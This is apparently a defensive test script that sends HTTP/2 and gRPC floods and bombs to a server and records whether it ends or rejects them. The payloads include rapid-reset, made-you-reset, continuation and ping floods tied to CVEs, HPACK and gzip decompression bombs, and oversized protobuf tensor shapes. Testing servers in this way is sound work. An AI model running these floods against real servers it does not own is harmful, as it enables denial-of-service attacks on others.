"""Floods and bombs that an HTTP/2 and gRPC server has to end, or to answer at little cost.

    python attacks/http2_floods.py HOST:PORT [NAME ...]

Each case sends at most a few megabytes over one connection and prints what the server did, and how long it took;
after each, another connection's call has to be answered. Known attacks carry their CVE. The bombs are meant for a
server of the Open Inference Protocol; they name the model of tests/serve/grpc/echo.py. Slow clients need minutes of
patience here, so they are tested with an injected clock instead: tests/serve/http2/test_hostile.py.
"""

from __future__ import annotations

import struct
import time
import zlib
from collections.abc import Callable

from http2_frames import (
    BLOCK,
    CONTINUATION,
    DATA,
    END_STREAM,
    GOAWAY,
    HEADERS,
    MESSAGE,
    METHOD,
    PING,
    PRIORITY,
    RST_STREAM,
    SCHEME,
    SETTINGS,
    TYPE,
    U32,
    WINDOW_UPDATE,
    Case,
    Peer,
    frame,
    headers,
    literal,
    main,
    name_code,
    setting,
)

CALM = "GOAWAY ENHANCE_YOUR_CALM"
INFER = METHOD + SCHEME + literal(b":path", b"/inference.GRPCInferenceService/ModelInfer") + TYPE
NUM = 60_000


def repeat(name: str, data: bytes, start: bytes = b"", count: int = NUM, expected: str = CALM) -> Case:
    """Send the same bytes very often."""

    def run(peer: Peer) -> None:
        peer.send(start)
        per_write = max(1, 200_000 // len(data))
        for _ in range(0, count, per_write):
            if not peer.send(data * per_write):
                return

    return Case(name, run, (expected,))


def streams(name: str, make: Callable[[int], bytes], count: int, expected: str = CALM) -> Case:
    """Send frames for ever new streams."""

    def run(peer: Peer) -> None:
        for first in range(0, count, 500):
            if not peer.send(b"".join(make(2 * n + 1) for n in range(first, min(first + 500, count)))):
                return

    return Case(name, run, (expected,))


def blocks(name: str, make: Callable[[int], bytes], count: int, expected: str = CALM) -> Case:
    """Send header blocks that cost much to decode."""
    return streams(name, lambda stream: headers(stream, make(stream), end=True), count, expected)


def message(name: str, data: bytes, status: int, block: bytes = INFER, flag: int = 0) -> Case:
    """Send one gRPC message, and expect a status."""
    body = bytes((flag,)) + U32(len(data)) + data

    def run(peer: Peer) -> None:
        peer.send(headers(1, block))
        send_body(peer, body)

    return Case(name, run, (f"grpc-status {status}",))


def send_body(peer: Peer, body: bytes) -> None:
    """Send a body as the server's windows allow; stop when it answers."""
    window, pos = 65535, 0
    while pos < len(body):
        size = min(16384, len(body) - pos, window)
        if size:
            if not peer.send(frame(DATA, END_STREAM if pos + size == len(body) else 0, 1, body[pos : pos + size])):
                return
            pos += size
            window -= size
            continue
        found = peer.read()
        if found is None or found.kind in (GOAWAY, RST_STREAM):
            return
        if found.kind == HEADERS:
            peer.buffer = frame(*found) + peer.buffer
            return
        if found.kind == SETTINGS:
            window += sum(value - 65535 for key, value in struct.iter_unpack(">HI", found.payload) if key == 4)
        elif found.kind == WINDOW_UPDATE and found.stream == 1:
            window += int.from_bytes(found.payload, "big")


def open_window_slowly(peer: Peer) -> None:
    """CVE-2019-9511: ask for an answer, and take it byte by byte."""
    peer.send(setting(4, 0) + headers(1, BLOCK) + frame(DATA, END_STREAM, 1, MESSAGE))
    for _ in range(NUM // 4000):
        peer.send(4000 * (frame(WINDOW_UPDATE, 0, 1, U32(1)) + frame(PING, 0, 0, bytes(8))))


def overrun_window(peer: Peer) -> None:
    """Send a second large body without looking at its window."""
    peer.send(headers(1, INFER) + 20 * frame(DATA, 0, 1, bytes(16384)) + headers(3, INFER))
    for _ in range(4000):
        if not peer.send(frame(DATA, 0, 3, bytes(16384))):
            return


def input_tensor(shape: tuple[int, ...], extra: bytes = b"") -> bytes:
    dims = b"".join(varint(dim & (1 << 64) - 1) for dim in shape)
    inner = b"\x0a\x01x\x12\x04FP32\x1a" + varint(len(dims)) + dims + extra
    return b"\x2a" + varint(len(inner)) + inner


def varint(value: int) -> bytes:
    out = b""
    while value >= 128:
        out += bytes((value & 127 | 128,))
        value >>= 7
    return out + bytes((value,))


ANY = b"\x0a\x03any"
GZIP = INFER + literal(b"grpc-encoding", b"gzip")


def gzip(data: bytes) -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    return packer.compress(data) + packer.flush()


CASES = [
    repeat("ping-flood (CVE-2019-9512)", frame(PING, 0, 0, bytes(8))),
    repeat("ping-ack-flood", frame(PING, 1, 0, bytes(8))),
    repeat("settings-flood (CVE-2019-9515)", frame(SETTINGS)),
    repeat("settings-of-2730-entries", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 70000) * 2730), count=100),
    repeat("priority-flood (CVE-2019-9513)", frame(PRIORITY, 0, 1, bytes(5))),
    repeat("window-update-flood", frame(WINDOW_UPDATE, 0, 0, U32(1))),
    repeat("unknown-frame-flood", frame(0x42, 0, 0, b"")),
    repeat("empty-data-flood (CVE-2019-9518)", frame(DATA, 0, 1, b""), headers(1, INFER)),
    repeat("one-byte-data-flood", frame(DATA, 0, 1, b"x"), headers(1, INFER)),
    repeat("padding-only-data-flood", frame(DATA, 8, 1, b"\xff" + bytes(255)), headers(1, INFER)),
    repeat("rst-flood-on-closed-stream", frame(RST_STREAM, 0, 1, U32(8)), headers(1) + frame(RST_STREAM, 0, 1, U32(8))),
    repeat("goaway-flood", frame(GOAWAY, 0, 0, bytes(8)), headers(1, INFER)),
    streams("rapid-reset (CVE-2023-44487)", lambda n: headers(n, INFER) + frame(RST_STREAM, 0, n, U32(8)), 20_000),
    streams("made-you-reset (CVE-2025-8671)", lambda n: headers(n, INFER) + frame(WINDOW_UPDATE, 0, n, U32(0)), 20_000),
    streams("malformed-flood", lambda n: headers(n, b"\x88" + INFER, end=True), 20_000),
    streams("refused-streams-flood", lambda n: headers(n, INFER), 60_000),
    repeat("continuation-flood (CVE-2024-27316)", frame(CONTINUATION, 0, 1, b"\x00"), headers(1, INFER, flags=0)),
    repeat("empty-continuation-flood", frame(CONTINUATION, 0, 1, b""), headers(1, INFER, flags=0)),
    repeat("continuation-of-megabytes", frame(CONTINUATION, 0, 1, bytes(16384)), headers(1, INFER, flags=0), count=200),
    blocks("hpack-bomb", lambda n: INFER + b"\x40\x01a\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 12000, 1),
    blocks("header-list-too-large", lambda n: INFER + 600 * literal(b"a", b"b"), 1),
    blocks("huffman-flood", lambda n: INFER + b"\x00\x01" + b"%c" % (97 + n % 26) + b"\xff\xad\x4c" + bytes(9900), 600),
    blocks("table-churn-flood", lambda n: INFER + 10 * (b"\x40\x05" + b"%05d" % n + b"\x7f\xe9\x06" + b"v" * 1000), 600),
    Case("data-dribble (CVE-2019-9511)", open_window_slowly, ("accepted", CALM)),
    Case("window-overrun", overrun_window, ("RST_STREAM FLOW_CONTROL_ERROR", "GOAWAY FLOW_CONTROL_ERROR")),
    message("empty-message", b"", 5),
    message("not-a-message", b"\xff" * 100, 3),
    message("message-of-65-megabytes", bytes(65 << 20), 8),
    message("shape-overflows", ANY + input_tensor((1 << 40, 1 << 40)) + b"\x3a\x04abcd", 3),
    message("shape-negative", ANY + input_tensor((-4, -1)) + b"\x3a\x04abcd", 3),
    message("shape-empty-but-huge", ANY + input_tensor((1 << 62, 0)) + b"\x3a\x00", 3),
    message("shape-of-8000-dimensions", ANY + input_tensor((1,) * 8000) + b"\x3a\x04abcd", 3),
    message("inputs-bomb", ANY + b"\x2a\x00" * (8 << 20), 3),
    message("raw-contents-bomb", ANY + b"\x3a\x00" * (8 << 20), 3),
    message("parameters-bomb", ANY + b"\x22\x00" * (8 << 20), 3),
    message("input-parameters-bomb", ANY + input_tensor((1, 1), b"\x22\x00" * (8 << 20)), 3),
    message("typed-contents-bomb", ANY + input_tensor((1, 1), b"\x2a\xff\xff\xff\x03\x1a\xfa\xff\xff\x03" + bytes(8 << 20)), 3),
    message("groups-bomb", ANY + b"\x0b" * (1 << 20), 3),
    message("gzip-bomb", gzip(bytes(300 << 20)), 8, GZIP, flag=1),
    message("gzip-cut", gzip(bytes(1000))[:-9], 3, GZIP, flag=1),
    message("gzip-without-encoding", gzip(bytes(1000)), 12, INFER, flag=1),
]


def run_flood(address: tuple[str, int], case: Case) -> str:
    started = time.monotonic()
    with Peer(address, timeout_s=10.0) as peer:
        case.data(peer)
        outcome = "silence"
        peer.send(frame(PING, 0, 0, b"outcome!"))
        while (found := peer.read()) is not None:
            if found.kind == GOAWAY and (code := int.from_bytes(found.payload[4:8], "big")):
                outcome = f"GOAWAY {name_code(code)}"
                break
            if found.kind == RST_STREAM and (code := int.from_bytes(found.payload, "big")) not in (0, 7):
                # A refused or reset stream is part of the way to the end of a flood.
                outcome = f"RST_STREAM {name_code(code)}"
                if outcome in case.expected:
                    break
            if found.kind == HEADERS and b"grpc-status" in found.payload and found.flags & END_STREAM:
                outcome = "grpc-status " + read_status(found.payload)
                if outcome in case.expected:
                    break
            if found.kind == PING and found.payload == b"outcome!" and outcome == "silence" and case.expected[0][:4] != "grpc":
                outcome = "accepted"
                break
        else:
            outcome = "closed" if peer.is_closed and outcome == "silence" else outcome
    took_s = time.monotonic() - started
    print(f"{took_s:6.2f} s", end=" ")
    return outcome


def read_status(block: bytes) -> str:
    start = block.index(b"grpc-status") + 11
    return block[start + 1 : start + 1 + block[start]].decode()


if __name__ == "__main__":
    main(run_flood, CASES)
